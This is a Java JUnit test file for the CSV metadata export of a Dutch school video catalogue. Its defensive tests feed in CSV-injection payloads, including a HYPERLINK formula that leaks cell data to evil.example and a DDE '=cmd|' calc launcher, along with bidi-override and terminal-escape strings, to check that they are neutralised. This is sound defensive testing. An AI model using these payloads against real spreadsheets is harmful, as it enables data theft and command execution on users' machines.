package nl.vidcat.export;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import nl.vidcat.io.ControlCharacters;
import nl.vidcat.model.Metadata;
import nl.vidcat.model.Problem;
import nl.vidcat.stage.Progress;
import nl.vidcat.model.ReviewStatus;
import nl.vidcat.model.Term;
import nl.vidcat.model.RecordFixtures;
import nl.vidcat.model.VideoRecord;
import nl.vidcat.sheet.Column;
import nl.vidcat.sheet.SheetReader;
import nl.vidcat.sheet.SheetRow;
import nl.vidcat.vocab.Normalizer;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class CsvExportTest {

    @TempDir
    Path tmp;

    @Test
    void sheetIsDutchExcelCsvAndRoundTripsThroughTheNormalizer() throws Exception {
        ExportFixtures fx = new ExportFixtures(tmp);
        Normalizer n = Normalizer.standard();
        VideoRecord plain = fx.save(RecordFixtures.sample("breuken-3f9a2c1d"));
        VideoRecord tricky = RecordFixtures.sample("lastig-5a5a5a5a");
        fx.save(ExportFixtures.withMetadata(tricky, new Metadata("Geïntegreerd; \"quoted\" = 1+1",
                "Regel 1\nRegel 2; met, tekens", List.of("één", "twee"), n.subject("sterrenkunde"),
                n.levels("vmbo-gt, havo"), List.of(1, 2, 3, 5), n.goals("KD22, PO 12, KD99"), "en",
                n.licence("CC0"), "Het Baken; Zuid", null, List.of("Kees", "Fatima"), Boolean.FALSE, "lastig.srt"))
                .withStatus(ReviewStatus.REJECTED, RecordFixtures.T0));
        ExportResult r = new Exporter(fx.catalog).export(ExportRequest.of(ExportFormat.CSV, tmp.resolve("out")),
                Progress.NONE);
        assertEquals(2, r.exported().size(), "the sheet holds every record, whatever its status or findings");

        byte[] bytes = Files.readAllBytes(tmp.resolve("out/metadata.csv"));
        assertEquals((byte) 0xEF, bytes[0]);
        assertEquals((byte) 0xBB, bytes[1]);
        assertEquals((byte) 0xBF, bytes[2]);
        String text = new String(bytes, StandardCharsets.UTF_8);
        assertTrue(text.startsWith("\uFEFFbestand;titel;beschrijving;vak;niveau;leerjaar;kerndoelen;trefwoorden;makers;"
                + "toestemming;docent;school;licentie;taal;ondertitels\r\n"), text);

        Map<String, Metadata> back = read(tmp.resolve("out/metadata.csv"));
        assertSame(plain.metadata(), back.get("wiskunde/breuken-3f9a2c1d.mp4"));
        Metadata t = back.get("wiskunde/lastig-5a5a5a5a.mp4");
        assertSame(fx.catalog.find("lastig-5a5a5a5a").orElseThrow().metadata(), t);
        assertEquals("sterrenkunde", t.subject().input(), "unknown values come back as typed");
        assertEquals("KD99", t.goals().get(2).input());
    }

    /** OWASP CSV injection: text cells that Excel would run are written with a leading ', and ingest drops it. */
    @Test
    void formulasInTextCellsAreNeutralizedAndComeBackExactlyThroughIngest() throws Exception {
        ExportFixtures fx = new ExportFixtures(tmp);
        Normalizer n = Normalizer.standard();
        Metadata m = new Metadata("=HYPERLINK(\"https://evil.example/?d=\"&A1;\"Klik hier\")", "+SUM(A1:A9)",
                List.of("-1+2", "=2+5"), n.subject("wiskunde"), n.levels("havo"), List.of(4, 5), List.of(),
                "nl", n.licence("CC BY 4.0"), "@cmd", "=cmd|'/C calc'!A0", List.of("@Noor", "Kees"), Boolean.TRUE,
                "-ondertitels.srt");
        fx.save(ExportFixtures.withMetadata(RecordFixtures.sample("formule-1a2b3c4d"), m));
        new Exporter(fx.catalog).export(ExportRequest.of(ExportFormat.CSV, tmp.resolve("out")), Progress.NONE);
        Path sheet = tmp.resolve("out/metadata.csv");

        try (Reader in = Files.newBufferedReader(sheet, StandardCharsets.UTF_8)) {
            in.skip(1); // BOM
            CSVRecord row = CSVFormat.EXCEL.builder().setDelimiter(';').setHeader().setSkipHeaderRecord(true).get()
                    .parse(in).getRecords().get(0);
            assertEquals("'" + m.title(), row.get("titel"));
            assertEquals("'+SUM(A1:A9)", row.get("beschrijving"));
            assertEquals("'-1+2, =2+5", row.get("trefwoorden"));
            assertEquals("'@Noor, Kees", row.get("makers"));
            assertEquals("'=cmd|'/C calc'!A0", row.get("docent"));
            assertEquals("'@cmd", row.get("school"));
            assertEquals("'-ondertitels.srt", row.get("ondertitels"));
            assertEquals("4-5", row.get("leerjaar"), "numbers are written as numbers");
            for (String cell : row.values()) {
                assertTrue(cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0, cell);
            }
        }
        SheetRow back = SheetReader.read(sheet).rows().get(0);
        List<Problem> problems = new ArrayList<>();
        assertSame(m, back.toMetadata(n, problems));
        assertEquals(m.title(), back.get(Column.TITLE));
    }

    @Test
    void controlAndBidiCharactersAreLeftOut() throws Exception {
        ExportFixtures fx = new ExportFixtures(tmp);
        VideoRecord r = RecordFixtures.sample("bidi-1a2b3c4d");
        fx.save(ExportFixtures.withMetadata(r, r.metadata().toBuilder().title("Huiswerk \u202Egnp.exe")
                .description("\u001B]0;pwned\u0007Uitleg\u0000 \u001B[2J van breuken\nregel 2")
                .keywords(List.of("\u2066a\u2069")).language("nl").school("School").teacher("Docent").makers(List.of())
                .consent(null).subtitles(null).build()));
        new Exporter(fx.catalog).export(ExportRequest.of(ExportFormat.CSV, tmp.resolve("out")), Progress.NONE);
        String text = Files.readString(tmp.resolve("out/metadata.csv"));
        assertEquals(-1, ControlCharacters.indexOf(text), text);
        assertTrue(text.contains("Huiswerk gnp.exe;\"]0;pwnedUitleg [2J van breuken\nregel 2\""), text);
    }

    @Test
    void yearsAreWrittenAsRanges() {
        assertEquals("1-3, 5", CsvSheetWriter.years(List.of(1, 2, 3, 5)));
        assertEquals("2", CsvSheetWriter.years(List.of(2)));
        assertEquals("", CsvSheetWriter.years(List.of()));
    }

    /** Reads the sheet the way ingest does (BOM, ';', Dutch headers) and normalizes each row. */
    static Map<String, Metadata> read(Path sheet) throws Exception {
        Normalizer n = Normalizer.standard();
        Map<String, Metadata> out = new TreeMap<>();
        try (Reader in = Files.newBufferedReader(sheet, StandardCharsets.UTF_8)) {
            in.mark(1);
            if (in.read() != '\uFEFF') {
                in.reset();
            }
            CSVParser p = CSVFormat.EXCEL.builder().setDelimiter(';').setHeader().setSkipHeaderRecord(true).get().parse(in);
            for (CSVRecord row : p) {
                List<Problem> problems = new ArrayList<>();
                out.put(row.get("bestand"), new Metadata(row.get("titel"), row.get("beschrijving"),
                        Normalizer.splitList(row.get("trefwoorden")), n.subject(row.get("vak")), n.levels(row.get("niveau")),
                        n.years(row.get("leerjaar"), problems), n.goals(row.get("kerndoelen")), n.language(row.get("taal")),
                        n.licence(row.get("licentie")), blankToNull(row.get("school")), blankToNull(row.get("docent")),
                        Normalizer.splitList(row.get("makers")), n.consent(row.get("toestemming"), problems),
                        blankToNull(row.get("ondertitels"))));
                assertEquals(List.of(), problems);
            }
        }
        return out;
    }

    /** Same metadata: terms compared by what they mean (id and code), not by how they were typed. */
    static void assertSame(Metadata a, Metadata b) {
        assertEquals(a.title(), b.title());
        assertEquals(a.description(), b.description());
        assertEquals(a.keywords(), b.keywords());
        assertEquals(key(a.subject()), key(b.subject()));
        assertEquals(a.levels().stream().map(CsvExportTest::key).toList(), b.levels().stream().map(CsvExportTest::key).toList());
        assertEquals(a.years(), b.years());
        assertEquals(a.goals().stream().map(CsvExportTest::key).toList(), b.goals().stream().map(CsvExportTest::key).toList());
        assertEquals(a.language(), b.language());
        assertEquals(key(a.licence()), key(b.licence()));
        assertEquals(a.school(), b.school());
        assertEquals(a.teacher(), b.teacher());
        assertEquals(a.makers(), b.makers());
        assertEquals(a.consent(), b.consent());
        assertEquals(a.subtitles(), b.subtitles());
    }

    private static String key(Term t) {
        return t == null ? null : t.known() ? t.id() + "/" + t.code() : "?" + t.input();
    }

    private static String blankToNull(String s) {
        return s == null || s.isBlank() ? null : s;
    }
}
